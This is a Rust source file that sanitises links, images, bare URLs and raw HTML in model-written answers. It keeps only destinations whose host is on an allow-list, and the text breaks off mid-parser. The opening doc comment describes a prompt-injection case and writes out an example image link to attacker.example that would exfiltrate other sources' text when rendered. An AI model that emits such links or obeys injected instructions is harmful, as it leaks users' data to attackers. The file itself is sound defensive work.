//! Links and images in model-written answers, neutralised unless they point to an allowed host.
//!
//! The model reads untrusted sources, and a source may tell it to write
//! `![x](https://attacker.example/?d=<other sources>)`: any client that renders the answer as
//! Markdown (or HTML) would then fetch that image and ship the text to the attacker, without a
//! click. So every answer, streamed or not, goes through [`sanitize`] or [`StreamSanitizer`]
//! before it leaves kb:
//!
//! - inline links `[text](url)` and images `![alt](url)` become their text (a link whose text
//!   is a citation marker keeps it: `[1](url)` becomes `[1]`);
//! - link reference definitions `[label]: url` are removed (so `[text][label]`, `[label]` and
//!   citation markers stay plain text);
//! - autolinks `<https://...>` and bare URLs (`http://`, `https://`, `ftp://`, `www.`) become
//!   [`LINK_REMOVED`];
//! - raw HTML (tags, comments, declarations) is removed whatever it points to;
//!
//! unless the destination is an absolute `http`/`https` URL whose host is on the allow-list
//! ([`AllowedHosts`], `answer.allowed_link_hosts`, empty by default). Everything else
//! (relative, protocol-relative, `javascript:`, `data:`, `mailto:` ...) is removed.
//!
//! Why a hand-written scanner rather than a Markdown parser: a sanitizer must catch what *any*
//! renderer the client uses could turn into a link (CommonMark, GFM's bare-URL autolinks,
//! marked, markdown-it with linkify), so it errs on the side of removing; it must give the
//! same result streamed, piece by piece, as on the whole text (one implementation serves
//! both paths, and tests check the two agree at every split); and it must be able to tell,
//! at the end of a piece, whether what it holds can still become a link. Removing a
//! construct can make its neighbours form a new one (`[a]<b>(//x)` is a link once the tag
//! is gone), so before the scanner decides that text is plain it first resolves any
//! construct that starts right after it; the output is a fixed point (sanitizing it again
//! changes nothing), which the tests check together with pulldown-cmark as an oracle.
//!
//! Code spans are not special: a URL inside backticks is removed too (a renderer never makes
//! it live, but whether backticks form a code span depends on text that may not have arrived
//! yet, and an answer loses little by it).

use serde::{Deserialize, Serialize};
use url::Url;

/// What a removed autolink or bare URL is replaced with.
pub const LINK_REMOVED: &str = "(link removed)";

/// Hosts that links and images in answers may point to (`answer.allowed_link_hosts`): exact
/// names (`intranet.example.com`) or `*.example.com` for every subdomain of `example.com`
/// (not `example.com` itself). Empty: no link or image survives.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "Vec<String>", into = "Vec<String>")]
pub struct AllowedHosts {
    entries: Vec<String>,
}

/// An `answer.allowed_link_hosts` entry that is not a host name.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "{entry:?} is not a host name ({reason}); write a bare host such as \
     intranet.example.com, or *.example.com for its subdomains"
)]
pub struct InvalidHost {
    pub entry: String,
    pub reason: &'static str,
}

impl AllowedHosts {
    /// Validate and normalise (lowercase) host names.
    pub fn new<S: AsRef<str>>(entries: &[S]) -> Result<Self, InvalidHost> {
        let entries = entries
            .iter()
            .map(|e| normalise_host(e.as_ref()))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(Self { entries })
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Whether `host` (lowercase ASCII, as a URL parser gives it) is allowed.
    pub fn allows(&self, host: &str) -> bool {
        self.entries.iter().any(|e| match e.strip_prefix("*.") {
            Some(domain) => host
                .strip_suffix(domain)
                .is_some_and(|sub| sub.len() > 1 && sub.ends_with('.')),
            None => e == host,
        })
    }

    /// The URL to write for a link or image destination, if it may stay: an absolute `http` or
    /// `https` URL to an allowed host. `raw` is the destination as written in Markdown
    /// (backslash escapes and character references are decoded here); the result is the URL
    /// as a browser would resolve it, without credentials, and with the characters that
    /// Markdown would read specially percent-encoded.
    fn destination(&self, raw: &str) -> Option<String> {
        if self.is_empty() {
            return None;
        }
        let decoded = decode_destination(raw)?;
        let mut url = Url::parse(decoded.trim()).ok()?;
        if !matches!(url.scheme(), "http" | "https") {
            return None;
        }
        let host = url.host_str()?.to_ascii_lowercase();
        if !self.allows(&host) {
            return None;
        }
        url.set_username("").ok()?;
        url.set_password(None).ok()?;
        let mut out = String::with_capacity(url.as_str().len());
        for c in url.as_str().chars() {
            match c {
                '(' | ')' | '[' | ']' | '<' | '>' | '\\' | '"' | '\'' | '`' | ' ' => {
                    out.push_str(&format!("%{:02X}", c as u32));
                }
                _ => out.push(c),
            }
        }
        Some(out)
    }

    /// Whether a bare URL or autolink, written as-is in the answer, may stay: its authority
    /// (between `//` or the start of `www.`, and the first `/`, `?` or `#`) must be a plain
    /// host name, with an optional port, on the list. Anything a renderer might read
    /// differently (escapes, character references, `@`, brackets) is refused.
    fn bare(&self, text: &str) -> bool {
        if self.is_empty() || text.contains('\\') || has_char_reference(text) {
            return false;
        }
        let lower = text.to_ascii_lowercase();
        let rest = if let Some(r) = lower
            .strip_prefix("https://")
            .or_else(|| lower.strip_prefix("http://"))
        {
            r
        } else if lower.starts_with("www.") {
            &lower
        } else {
            return false;
        };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
        if !authority
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'))
        {
            return false;
        }
        let host = match authority.split_once(':') {
            Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
            Some(_) => return false,
            None => authority,
        };
        self.allows(host)
    }
}

impl TryFrom<Vec<String>> for AllowedHosts {
    type Error = InvalidHost;
    fn try_from(entries: Vec<String>) -> Result<Self, InvalidHost> {
        Self::new(&entries)
    }
}

impl From<AllowedHosts> for Vec<String> {
    fn from(hosts: AllowedHosts) -> Self {
        hosts.entries
    }
}

fn normalise_host(entry: &str) -> Result<String, InvalidHost> {
    let invalid = |reason| InvalidHost {
        entry: entry.to_owned(),
        reason,
    };
    let lower = entry.trim().to_ascii_lowercase();
    if lower.is_empty() {
        return Err(invalid("empty"));
    }
    if lower.contains("://") {
        return Err(invalid("no scheme: links are allowed over http and https"));
    }
    if lower.contains(['/', '?', '#', ':', '@']) {
        return Err(invalid("no path, port or user"));
    }
    let domain = lower.strip_prefix("*.").unwrap_or(&lower);
    if domain.len() > 253 {
        return Err(invalid("longer than 253 characters"));
    }
    let label_ok = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    if !domain.split('.').all(label_ok) {
        return Err(invalid(
            "labels of letters, digits and hyphens separated by dots; \
             write internationalised names in their xn-- form",
        ));
    }
    Ok(lower)
}

/// An answer with its links and images neutralised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized {
    pub text: String,
    /// Links, images, link definitions and HTML tags removed or replaced.
    pub removed: usize,
}

/// Neutralise the links and images of a whole answer.
pub fn sanitize(text: &str, hosts: &AllowedHosts) -> Sanitized {
    let mut stream = StreamSanitizer::new(hosts.clone());
    let mut out = stream.push(text);
    out.push_str(&stream.finish());
    Sanitized {
        text: out,
        removed: stream.removed(),
    }
}

/// [`sanitize`] for an answer that arrives in pieces: [`push`](Self::push) returns the text
/// that is settled (ordinary text at once; from a possible link, image, tag, URL or character
/// reference on, only once it is resolved), [`finish`](Self::finish) the rest. The pieces
/// joined are exactly [`sanitize`] of the whole.
#[derive(Debug, Clone)]
pub struct StreamSanitizer {
    hosts: AllowedHosts,
    /// Text held by the character reference decoder.
    references: String,
    /// Text held by the scanner.
    pending: String,
    removed: usize,
}

impl StreamSanitizer {
    pub fn new(hosts: AllowedHosts) -> Self {
        Self {
            hosts,
            references: String::new(),
            pending: String::new(),
            removed: 0,
        }
    }

    /// Take a piece of the answer; return what can be sent now.
    pub fn push(&mut self, piece: &str) -> String {
        self.step(piece, false)
    }

    /// The answer is complete: return everything still held.
    pub fn finish(&mut self) -> String {
        self.step("", true)
    }

    /// Links, images, link definitions and tags removed so far.
    pub fn removed(&self) -> usize {
        self.removed
    }

    fn step(&mut self, piece: &str, eof: bool) -> String {
        self.references.push_str(piece);
        let (decoded, held) = decode_references(&self.references, eof);
        self.references = held;
        self.pending.push_str(&decoded);
        let mut scanner = Scanner {
            buf: std::mem::take(&mut self.pending),
            eof,
            hosts: &self.hosts,
            removed: 0,
            generation: 0,
        };
        let (out, held) = scanner.run();
        self.removed += scanner.removed;
        self.pending = held;
        out
    }
}

/// Character references that decode to letters, digits or `:/.@` are decoded before the
/// scan, so that `&#104;ttps&#58;//` is seen for the URL a renderer will show; the others
/// are left as written. Returns the decoded text and the tail that may still be a reference.
fn decode_references(text: &str, eof: bool) -> (String, String) {
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    let mut i = 0;
    while let Some(at) = memchr_amp(bytes, i) {
        match reference_at(&text[at..]) {
            Reference::Complete(len, Some(c))
                if c.is_ascii_alphanumeric() || ":/.@".contains(c) =>
            {
                out.push_str(&text[last..at]);
                out.push(c);
                last = at + len;
                i = at + len;
            }
            Reference::Complete(len, _) => i = at + len,
            Reference::Partial if !eof => {
                out.push_str(&text[last..at]);
                return (out, text[at..].to_owned());
            }
            Reference::Partial | Reference::Not => i = at + 1,
        }
    }
    out.push_str(&text[last..]);
    (out, String::new())
}

fn memchr_amp(bytes: &[u8], from: usize) -> Option<usize> {
    bytes[from..]
        .iter()
        .position(|&b| b == b'&')
        .map(|p| p + from)
}

enum Reference {
    /// Length and the character, if kb knows the name.
    Complete(usize, Option<char>),
    /// The text ends inside something that may still be a reference.
    Partial,
    Not,
}

/// The character reference at the start of `s` (which starts with `&`).
fn reference_at(s: &str) -> Reference {
    let b = s.as_bytes();
    let (digits_from, radix) = match (b.get(1), b.get(2)) {
        (None, _) => return Reference::Partial,
        (Some(b'#'), Some(b'x' | b'X')) => (3, 16),
        (Some(b'#'), None) => return Reference::Partial,
        (Some(b'#'), _) => (2, 10),
        (Some(c), _) if c.is_ascii_alphabetic() => (1, 0),
        _ => return Reference::Not,
    };
    let max = match radix {
        16 => 6,
        10 => 7,
        _ => 32,
    };
    let mut j = digits_from;
    while j < b.len() && j - digits_from < max {
        let ok = match radix {
            16 => b[j].is_ascii_hexdigit(),
            10 => b[j].is_ascii_digit(),
            _ => b[j].is_ascii_alphanumeric(),
        };
        if !ok {
            break;
        }
        j += 1;
    }
    if j == b.len() {
        return Reference::Partial;
    }
    if b[j] != b';' || j == digits_from {
        return Reference::Not;
    }
    let body = &s[digits_from..j];
    let c = match radix {
        0 => named_reference(body),
        r => u32::from_str_radix(body, r).ok().and_then(char::from_u32),
    };
    Reference::Complete(j + 1, c)
}

fn named_reference(name: &str) -> Option<char> {
    Some(match name {
        "amp" => '&',
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "apos" => '\'',
        "colon" => ':',
        "sol" => '/',
        "bsol" => '\\',
        "period" => '.',
        "commat" => '@',
        "lpar" => '(',
        "rpar" => ')',
        "lsqb" | "lbrack" => '[',
        "rsqb" | "rbrack" => ']',
        "num" => '#',
        "quest" => '?',
        "equals" => '=',
        "percnt" => '%',
        "plus" => '+',
        "nbsp" => '\u{a0}',
        _ => return None,
    })
}

fn has_char_reference(text: &str) -> bool {
    text.match_indices('&')
        .any(|(at, _)| matches!(reference_at(&text[at..]), Reference::Complete(..)))
}

/// A Markdown link destination as a renderer reads it: backslash escapes and character
/// references decoded; `None` when it holds a reference kb cannot decode.
fn decode_destination(raw: &str) -> Option<String> {
    let mut out = String::with_capacity(raw.len());
    let mut i = 0;
    while i < raw.len() {
        let rest = &raw[i..];
        let c = rest.chars().next().expect("BUG: i is on a char boundary");
        match c {
            '\\' if rest[1..].starts_with(|n: char| n.is_ascii_punctuation()) => {
                out.push(rest[1..].chars().next().expect("BUG: checked above"));
                i += 2;
            }
            '&' => match reference_at(rest) {
                Reference::Complete(len, Some(d)) => {
                    out.push(d);
                    i += len;
                }
                Reference::Complete(_, None) => return None,
                _ => {
                    out.push('&');
                    i += 1;
                }
            },
            _ => {
                out.push(c);
                i += c.len_utf8();
            }
        }
    }
    Some(out)
}

/// Whether a destination may name another site: it holds (once decoded) a `:` (a scheme),
/// a `/` or a `\` (`//host`), or cannot be decoded.
fn leaves_the_site(dest: &str) -> bool {
    decode_destination(dest).is_none_or(|d| d.contains([':', '/', '\\']))
}

/// Bytes taken by a backslash at `j`: an escape of ASCII punctuation, or itself.
fn escape_len(b: &[u8], j: usize) -> usize {
    if b.get(j + 1).is_some_and(u8::is_ascii_punctuation) {
        2
    } else {
        1
    }
}

/// How far a construct at the start of a slice reaches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reach {
    /// It is one, this many bytes long.
    Done(usize),
    /// It is not one: the first byte that does not fit is at this offset.
    No(usize),
    /// The text ends before it can be told.
    More,
}

/// What the scanner does at one position.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Act {
    /// This many bytes are plain text.
    Emit(usize),
    /// The text from here was rewritten: look again.
    Rewrote,
    /// The text ends before it can be told.
    More,
}

/// Whether the text at a position is settled.
enum Settle {
    Changed,
    Final,
    More,
}

/// Nesting of constructs resolved before the one that follows them (`[a][b][c]...`); past
/// it, the construct's first character is dropped instead (only reached by crafted text).
const MAX_DEPTH: u8 = 64;

struct Scanner<'h> {
    buf: String,
    eof: bool,
    hosts: &'h AllowedHosts,
    removed: usize,
    /// Bumped whenever the buffer changes, so that resolving a construct reports a change
    /// made further on too.
    generation: u64,
}

fn is_ws(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

fn char_len(first: u8) -> usize {
    match first {
        0xF0.. => 4,
        0xE0.. => 3,
        0xC0.. => 2,
        _ => 1,
    }
}

/// Bytes that may start a construct whose removal joins what precedes it to what follows
/// (a tag, a link or an image). A removed URL leaves [`LINK_REMOVED`], which joins nothing.
fn starts_construct(b: u8) -> bool {
    matches!(b, b'<' | b'[' | b'!')
}

fn starts_url(b: u8) -> bool {
    matches!(b, b'h' | b'H' | b'f' | b'F' | b'w' | b'W')
}

/// Citation markers stay markers when a link is replaced by its text: `[1](url)` -> `[1]`.
fn is_citation(text: &str) -> bool {
    let t = text.trim();
    !t.is_empty()
        && t.split(',').all(|n| {
            let n = n.trim();
            (1..=3).contains(&n.len()) && n.bytes().all(|b| b.is_ascii_digit())
        })
}

impl Scanner<'_> {
    /// Scan the buffer: the settled output and the held tail.
    fn run(&mut self) -> (String, String) {
        let mut out = String::with_capacity(self.buf.len());
        let mut i = 0;
        while i < self.buf.len() {
            match self.act(i, 0) {
                Act::Emit(n) => {
                    out.push_str(&self.buf[i..i + n]);
                    i += n;
                }
                Act::Rewrote => {}
                Act::More => break,
            }
        }
        let held = self.buf.split_off(i);
        (out, held)
    }

    /// Replace a removed construct.
    fn rewrite(&mut self, range: std::ops::Range<usize>, with: &str) -> Act {
        self.replace(range, with);
        self.removed += 1;
        Act::Rewrote
    }

    /// Replace text kept in another form (a canonical URL).
    fn replace(&mut self, range: std::ops::Range<usize>, with: &str) {
        if self.buf[range.clone()] != *with {
            self.buf.replace_range(range, with);
            self.generation += 1;
        }
    }

    /// Resolve the construct at `m` (a tag, link or image; with `urls`, a bare URL too), if
    /// any, so that what precedes it can be decided.
    fn settle(&mut self, m: usize, depth: u8, urls: bool) -> Settle {
        let Some(&b) = self.buf.as_bytes().get(m) else {
            return if self.eof {
                Settle::Final
            } else {
                Settle::More
            };
        };
        if !(starts_construct(b) || urls && starts_url(b)) {
            return Settle::Final;
        }
        if depth >= MAX_DEPTH {
            self.rewrite(m..m + 1, "");
            return Settle::Changed;
        }
        let generation = self.generation;
        match self.act(m, depth + 1) {
            Act::More => Settle::More,
            _ if self.generation != generation => Settle::Changed,
            Act::Rewrote => Settle::Changed,
            Act::Emit(_) => Settle::Final,
        }
    }

    /// Resolve every construct in `from..=to`: a construct that was judged not to be one
    /// after reading that far is only final if nothing it read changes.
    ///
    /// `urls`: resolve bare URLs too (their replacement, [`LINK_REMOVED`], has a space and
    /// parentheses, which changes what a link destination or title reads).
    fn settle_range(&mut self, from: usize, to: usize, depth: u8, urls: bool) -> Settle {
        let mut p = from;
        while p <= to {
            let Some(&b) = self.buf.as_bytes().get(p) else {
                return self.settle(p, depth, urls);
            };
            if starts_construct(b) || urls && starts_url(b) {
                match self.settle(p, depth, urls) {
                    Settle::Final => {}
                    other => return other,
                }
            }
            p += 1;
        }
        Settle::Final
    }

    /// After a `No` at `to`: plain text if everything read from `from` is settled, otherwise
    /// look again.
    fn unless_changed(&mut self, from: usize, to: usize, depth: u8, emit: usize) -> Act {
        match self.settle_range(from, to, depth, false) {
            Settle::Changed => Act::Rewrote,
            Settle::Final => Act::Emit(emit),
            Settle::More => Act::More,
        }
    }

    fn act(&mut self, i: usize, depth: u8) -> Act {
        let b = self.buf.as_bytes();
        match b[i] {
            b'\\' => match b.get(i + 1) {
                None if !self.eof => Act::More,
                Some(n) if n.is_ascii_punctuation() => Act::Emit(2),
                _ => Act::Emit(1),
            },
            b'<' => self.angle(i, depth),
            b'!' => match b.get(i + 1) {
                None if !self.eof => Act::More,
                Some(b'[') => self.bracket(i, true, depth),
                _ => Act::Emit(1),
            },
            b'[' => self.bracket(i, false, depth),
            b if starts_url(b) => self.bare_url(i, depth),
            first => Act::Emit(char_len(first)),
        }
    }

    /// `<`: raw HTML (always removed), an autolink, or a plain `<`.
    fn angle(&mut self, i: usize, depth: u8) -> Act {
        match angle_at(&self.buf[i..], self.eof) {
            Angle::Html(len) => self.rewrite(i..i + len, ""),
            Angle::Autolink { len, email } => {
                let inner = &self.buf[i + 1..i + len - 1];
                if email {
                    let inner = inner.to_owned();
                    self.rewrite(i..i + len, &inner)
                } else if self.hosts.bare(inner) {
                    Act::Emit(len)
                } else {
                    self.rewrite(i..i + len, LINK_REMOVED)
                }
            }
            // An unclosed comment, declaration or processing instruction: whether it closes
            // depends on everything after it (`<!--<b>>` is `<!-->` once the tag is gone),
            // so its `<` goes.
            Angle::No(_) if matches!(self.buf.as_bytes().get(i + 1), Some(b'!' | b'?')) => {
                self.rewrite(i..i + 1, "")
            }
            Angle::No(m) => self.unless_changed(i + 1, i + m, depth, 1),
            Angle::More => Act::More,
        }
    }

    /// `[` or `![`: an inline link or image, a link reference definition, or plain text.
    fn bracket(&mut self, i: usize, image: bool, depth: u8) -> Act {
        let open = i + if image { 2 } else { 1 };
        let close = match self.matching_bracket(open, depth) {
            Reach::Done(k) => k,
            Reach::No(_) => return Act::Emit(1),
            Reach::More => return Act::More,
        };
        loop {
            let f = close + 1;
            let Some(&follower) = self.buf.as_bytes().get(f) else {
                return if self.eof { Act::Emit(1) } else { Act::More };
            };
            match follower {
                b'(' => match destination_group(&self.buf[f..], self.eof) {
                    Group::Done { len, dest } => {
                        return self.link(i, open, close, f..f + len, &dest);
                    }
                    Group::No(m) => match self.settle_range(f + 1, f + m, depth, true) {
                        Settle::Changed => continue,
                        Settle::Final => return Act::Emit(1),
                        Settle::More => return Act::More,
                    },
                    Group::More => return Act::More,
                },
                b':' => match definition_tail(&self.buf[f + 1..], self.eof) {
                    // Recognised anywhere, not only at the start of a line (renderers differ
                    // on where definitions may stand), so a destination that can only name a
                    // page of the reader's own site is left alone: in prose, `see [1]: yes`
                    // is not a definition worth removing.
                    Group::Done { len, dest } if !leaves_the_site(&dest) => {
                        match self.settle_range(f + 1, f + 1 + len, depth, true) {
                            Settle::Changed => continue,
                            Settle::Final => return Act::Emit(1),
                            Settle::More => return Act::More,
                        }
                    }
                    Group::Done { len, dest } => {
                        let end = f + 1 + len;
                        return match self.hosts.destination(&dest) {
                            Some(url) => {
                                let kept = format!("[{}]: {url}", &self.buf[open..close]);
                                self.replace(i..end, &kept);
                                Act::Emit(1)
                            }
                            None => self.rewrite(i..end, ""),
                        };
                    }
                    Group::No(m) => match self.settle_range(f + 1, f + 1 + m, depth, true) {
                        Settle::Changed => continue,
                        Settle::Final => return Act::Emit(1),
                        Settle::More => return Act::More,
                    },
                    Group::More => return Act::More,
                },
                b if starts_construct(b) => match self.settle(f, depth, false) {
                    Settle::Changed => continue,
                    Settle::Final => return Act::Emit(1),
                    Settle::More => return Act::More,
                },
                _ => return Act::Emit(1),
            }
        }
    }

    /// An inline link or image: kept with its URL made canonical, or replaced by its text.
    fn link(
        &mut self,
        i: usize,
        open: usize,
        close: usize,
        group: std::ops::Range<usize>,
        dest: &str,
    ) -> Act {
        match self.hosts.destination(dest) {
            Some(url) => {
                self.replace(group, &format!("({url})"));
                Act::Emit(open - i)
            }
            None => {
                let text = &self.buf[open..close];
                let text = if is_citation(text) {
                    format!("[{text}]")
                } else {
                    text.to_owned()
                };
                self.rewrite(i..group.end, &text)
            }
        }
    }

    /// The `]` closing the bracket opened just before `open`, skipping escapes, raw HTML,
    /// autolinks, bare URLs and inner link destinations (which are removed or kept whole);
    /// `No` at a blank line.
    ///
    /// A tag, or a link destination, that does not parse may parse once something inside it
    /// is removed (`<img src=<!--[>`), so those are resolved before they are read past.
    fn matching_bracket(&mut self, open: usize, depth: u8) -> Reach {
        let mut level = 0usize;
        let mut k = open;
        loop {
            let b = self.buf.as_bytes();
            let Some(&c) = b.get(k) else {
                return if self.eof { Reach::No(k) } else { Reach::More };
            };
            match c {
                b'\\' => match b.get(k + 1) {
                    None if !self.eof => return Reach::More,
                    Some(n) if n.is_ascii_punctuation() => k += 2,
                    _ => k += 1,
                },
                b'<' => match self.settle(k, depth, false) {
                    Settle::Changed => (k, level) = (open, 0),
                    Settle::More => return Reach::More,
                    Settle::Final => match angle_at(&self.buf[k..], self.eof) {
                        Angle::Html(len) | Angle::Autolink { len, .. } => k += len,
                        Angle::More => return Reach::More,
                        Angle::No(_) => k += 1,
                    },
                },
                b if starts_url(b) => match url_at(&self.buf[k..], self.eof) {
                    UrlAt::Url { extent, .. } => k += extent,
                    UrlAt::More => return Reach::More,
                    UrlAt::No(_) => k += 1,
                },
                b'[' => {
                    level += 1;
                    k += 1;
                }
                b']' if level == 0 => return Reach::Done(k),
                b']' => {
                    level -= 1;
                    k += 1;
                    // An inner link's destination is one unit: it is removed or kept whole
                    // (without brackets), so brackets inside it do not count.
                    if b.get(k) == Some(&b'(') {
                        match destination_group(&self.buf[k..], self.eof) {
                            Group::Done { len, .. } => k += len,
                            Group::More => return Reach::More,
                            Group::No(m) => match self.settle_range(k + 1, k + m, depth, true) {
                                Settle::Changed => (k, level) = (open, 0),
                                Settle::More => return Reach::More,
                                Settle::Final => {}
                            },
                        }
                    }
                }
                b'\n' => match blank_line_after(&b[k + 1..]) {
                    Some(true) => return Reach::No(k),
                    Some(false) => k += 1,
                    None if self.eof => return Reach::No(k),
                    None => return Reach::More,
                },
                _ => k += 1,
            }
        }
    }

    /// `http://`, `https://`, `ftp://` or `www.` (anywhere, as some renderers link them even
    /// inside a word): kept if allowed, otherwise replaced by [`LINK_REMOVED`].
    fn bare_url(&mut self, i: usize, depth: u8) -> Act {
        match url_at(&self.buf[i..], self.eof) {
            UrlAt::Url { extent, end } => {
                if self.hosts.bare(&self.buf[i..i + end]) {
                    // What stopped the URL must be settled: a removed tag would join the
                    // text after it to the URL.
                    match self.settle(i + extent, depth, false) {
                        Settle::Changed => Act::Rewrote,
                        Settle::Final => Act::Emit(end),
                        Settle::More => Act::More,
                    }
                } else {
                    self.rewrite(i..i + end, LINK_REMOVED)
                }
            }
            UrlAt::No(m) if m > 0 => self.unless_changed(i + 1, i + m, depth, 1),
            UrlAt::No(_) => Act::Emit(1),
            UrlAt::More => Act::More,
        }
    }
}

/// Whether the line after a newline is blank (`None`: the text ends before it can be told).
fn blank_line_after(rest: &[u8]) -> Option<bool> {
    for &c in rest {
        match c {
            b' ' | b'\t' | b'\r' => {}
            b'\n' => return Some(true),
            _ => return Some(false),
        }
    }
    None
}

enum UrlAt {
    /// `extent`: up to whitespace, `<`, a bracket or a backtick; `end`: without trailing
    /// punctuation.
    Url {
        extent: usize,
        end: usize,
    },
    No(usize),
    More,
}

const URL_PREFIXES: [&[u8]; 4] = [b"http://", b"https://", b"ftp://", b"www."];

/// A bare URL at the start of `s`. Backslash escapes inside the prefix are read through
/// (`http:\/\/` renders as `http://`).
fn url_at(s: &str, eof: bool) -> UrlAt {
    let b = s.as_bytes();
    let mut best_mismatch = 0;
    let mut matched = None;
    for prefix in URL_PREFIXES {
        let (mut k, mut p) = (0, 0);
        let outcome = loop {
            if p == prefix.len() {
                break Some(Ok(k));
            }
            let Some(&c) = b.get(k) else {
                break if eof { Some(Err(k)) } else { None };
            };
            if c == b'\\' && prefix[p].is_ascii_punctuation() {
                match b.get(k + 1) {
                    None if !eof => break None,
                    Some(&n) if n == prefix[p] => {
                        k += 2;
                        p += 1;
                        continue;
                    }
                    _ => break Some(Err(k)),
                }
            }
            if c.eq_ignore_ascii_case(&prefix[p]) {
                k += 1;
                p += 1;
            } else {
                break Some(Err(k));
            }
        };
        match outcome {
            None => return UrlAt::More,
            Some(Ok(k)) => {
                matched = Some(k);
                break;
            }
            Some(Err(k)) => best_mismatch = best_mismatch.max(k),
        }
    }
    let Some(start) = matched else {
        return UrlAt::No(best_mismatch);
    };
    // Up to whitespace or `<` as renderers do; past the host also up to a bracket or a
    // backtick, so that a kept URL never swallows the `](` of a link around it. Inside the
    // host they belong to the URL (which is then refused): a renderer that links
    // `https://a.example[@b.example` sends the browser to b.example.
    let mut extent = start;
    let mut in_path = false;
    while let Some(&c) = b.get(extent) {
        if is_ws(c) || c == b'<' || in_path && matches!(c, b'[' | b']' | b'`') {
            break;
        }
        in_path |= matches!(c, b'/' | b'?' | b'#');
        extent += 1;
    }
    if extent == b.len() && !eof {
        return UrlAt::More;
    }
    let mut end = extent;
    while end > start {
        let trim = match b[end - 1] {
            b'?' | b'!' | b'.' | b',' | b':' | b'*' | b'_' | b'~' | b'\'' | b'"' | b';' => true,
            b')' => {
                let url = &b[..end];
                url.iter().filter(|&&c| c == b')').count()
                    > url.iter().filter(|&&c| c == b'(').count()
            }
            _ => false,
        };
        if !trim {
            break;
        }
        end -= 1;
    }
    // Trimming only removes ASCII, so `end` is on a character boundary.
    UrlAt::Url { extent, end }
}

#[derive(Debug, Clone, Copy)]
enum Angle {
    Html(usize),
    Autolink { len: usize, email: bool },
    No(usize),
    More,
}

/// Raw HTML or an autolink at the start of `s` (which starts with `<`), by CommonMark's
/// grammar; `No(m)` when the byte at `m` does not fit. Neither may span a blank line.
fn angle_at(s: &str, eof: bool) -> Angle {
    let b = s.as_bytes();
    let more = |k: usize| {
        if eof { Angle::No(k) } else { Angle::More }
    };
    let Some(&c1) = b.get(1) else {
        return more(1);
    };
    // An autolink `<scheme:...>`, an email autolink `<a@b.c>` or raw HTML: the first that
    // is one (waiting while any may still be); when none, the furthest any read is where
    // the text stopped fitting.
    let scheme = if c1.is_ascii_alphabetic() {
        scheme_autolink(b, eof)
    } else {
        Angle::No(1)
    };
    let email = if is_email_local(c1) {
        email_autolink(b, eof)
    } else {
        Angle::No(1)
    };
    let candidates = [scheme, email, html_at(b, eof)];
    if candidates.iter().any(|a| matches!(a, Angle::More)) {
        return Angle::More;
    }
    if let Some(found) = candidates
        .iter()
        .find(|a| matches!(a, Angle::Autolink { .. } | Angle::Html(_)))
    {
        return *found;
    }
    Angle::No(
        candidates
            .iter()
            .map(|a| match a {
                Angle::No(m) => *m,
                _ => 1,
            })
            .max()
            .unwrap_or(1),
    )
}

fn is_email_local(c: u8) -> bool {
    c.is_ascii_alphanumeric() || b".!#$%&'*+/=?^_`{|}~-".contains(&c)
}

/// Raw HTML at the start of `b` (which starts with `<` and has a second byte).
fn html_at(b: &[u8], eof: bool) -> Angle {
    let more = |k: usize| if eof { Angle::No(k) } else { Angle::More };
    match b[1] {
        c if c.is_ascii_alphabetic() => open_tag(b, eof),
        b'/' => close_tag(b, eof),
        b'?' => delimited(b, 2, b"?>", eof),
        b'!' => {
            if b.len() < 4 && b"<!--".starts_with(b) || b.len() < 9 && b"<![CDATA[".starts_with(b) {
                return more(b.len());
            }
            if b.starts_with(b"<!-->") {
                Angle::Html(5)
            } else if b.starts_with(b"<!--->") {
                Angle::Html(6)
            } else if b.starts_with(b"<!--") {
                delimited(b, 4, b"-->", eof)
            } else if b.starts_with(b"<![CDATA[") {
                delimited(b, 9, b"]]>", eof)
            } else {
                match b.get(2) {
                    None => more(2),
                    Some(c) if c.is_ascii_alphabetic() => delimited(b, 3, b">", eof),
                    _ => Angle::No(2),
                }
            }
        }
        _ => Angle::No(1),
    }
}

/// Something that ends at `close`, from `from`, without a blank line.
fn delimited(b: &[u8], from: usize, close: &[u8], eof: bool) -> Angle {
    let mut k = from;
    while k + close.len() <= b.len() {
        if b[k..].starts_with(close) {
            return Angle::Html(k + close.len());
        }
        if b[k] == b'\n' && blank_line_after(&b[k + 1..]) == Some(true) {
            return Angle::No(k);
        }
        k += 1;
    }
    if eof { Angle::No(b.len()) } else { Angle::More }
}

/// A `<scheme:...>` autolink at the start of `b`: `Autolink`, `More`, or `No` at the first byte
/// that does not fit.
fn scheme_autolink(b: &[u8], eof: bool) -> Angle {
    // Scheme: 2 to 32 of [A-Za-z0-9+.-] after the first letter, then `:`.
    let mut k = 1;
    while k < b.len()
        && k <= 33
        && (b[k].is_ascii_alphanumeric() || matches!(b[k], b'+' | b'.' | b'-'))
    {
        k += 1;
    }
    if k == b.len() && !eof && k <= 33 {
        return Angle::More;
    }
    if b.get(k) == Some(&b':') && (3..=33).contains(&k) {
        let mut j = k + 1;
        while let Some(&c) = b.get(j) {
            if c == b'>' {
                return Angle::Autolink {
                    len: j + 1,
                    email: false,
                };
            }
            if c == b'<' || c <= b' ' || c == 0x7f {
                return Angle::No(j);
            }
            j += 1;
        }
        return if eof { Angle::No(j) } else { Angle::More };
    }
    Angle::No(k)
}

/// An email autolink at the start of `b`: local part, `@`, labels, `>`.
fn email_autolink(b: &[u8], eof: bool) -> Angle {
    let mut j = 1;
    while b.get(j).is_some_and(|c| is_email_local(*c)) {
        j += 1;
    }
    if j == b.len() {
